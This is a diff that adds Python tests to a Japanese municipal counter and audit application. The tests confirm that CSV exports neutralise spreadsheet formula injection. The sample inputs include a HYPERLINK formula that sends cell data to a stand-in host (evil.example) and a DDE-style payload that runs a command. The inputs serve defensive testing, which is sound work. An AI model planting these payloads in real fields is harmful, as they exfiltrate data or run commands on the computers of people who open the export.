@@ -1,0 +1,68 @@
+"""CSV exports opened in a spreadsheet: text typed at a counter or at the
+login page that starts like a formula (= + - @, a tab or a carriage
+return) comes out with a leading apostrophe, so the spreadsheet shows it
+instead of running it; parsed back, every other cell is unchanged."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import subprocess
+import sys
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81-90-1234-5678", "-2+3",
+            "\t=1+1", "\r=1+1"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def parse(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
+
+
+def assert_no_live_formula(rows: list[list[str]], typed: list[str]) -> None:
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    for text in typed:
+        assert "'" + text in cells, text
+
+
+def test_deferred_requests_csv_keeps_formulas_as_text(login, downtime):
+    clerk = login("clerk1")
+    for index, text in enumerate(FORMULAS):
+        answer = clerk.post("/counter/deferred", {"kind": "tenkyo", "name": f"山田　{index}", "contact": "+81-3-0000-0000",
+                                                  "delivery": "phone", "consent": "1", "note": text})
+        assert answer.status_code == 200, text
+    rows = parse(login("boss").get("/counter/deferred.csv").get_data(as_text=True))
+    assert rows[0][0] == "受付番号" and len(rows) == len(FORMULAS) + 1
+    typed = [text.strip() for text in FORMULAS]  # the form strips what it stores
+    assert_no_live_formula(rows, [t for t in typed if t.startswith(FORMULA_STARTS)] + ["+81-3-0000-0000"])
+    assert [row[6] for row in rows[1:]] == [f"山田　{index}" for index in range(len(FORMULAS))]  # other cells as typed
+
+
+def failed_logins(appliance, usernames):
+    client = appliance.test_client()
+    csrf = client.get("/api/v1/session").get_json()["csrf_token"]
+    for index, username in enumerate(usernames):
+        client.environ_base["REMOTE_ADDR"] = f"10.60.0.{index + 1}"
+        answer = client.post("/api/v1/session", json={"username": username, "password": "x", "terminal": "本庁1"},
+                             headers={"X-CSRF-Token": csrf})
+        assert answer.status_code == 401
+
+
+def test_audit_csv_keeps_typed_usernames_as_text(appliance, login):
+    usernames = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd", "-1", "\t=2+2"]
+    failed_logins(appliance, usernames)
+    text = login("aud").get("/audit/export.csv?action=login.failed").get_data(as_text=True)
+    rows = parse(text)
+    assert rows[0] == ["id", "at", "actor", "action", "target", "detail", "drill", "hash"]
+    assert sorted(row[2] for row in rows[1:]) == sorted("'" + name for name in usernames)
+    assert_no_live_formula(rows, usernames)
+
+
+def test_the_audit_export_command_keeps_formulas_as_text(appliance):
+    failed_logins(appliance, ["=1+1", "@A1"])
+    out = subprocess.run([sys.executable, "-m", "fallback.cli", "audit", "export", "--action", "login.failed", "--format", "csv"],
+                         capture_output=True, text=True, env=dict(os.environ), check=True).stdout
+    rows = parse(out)
+    assert [row[2] for row in rows[1:]] == ["'=1+1", "'@A1"]
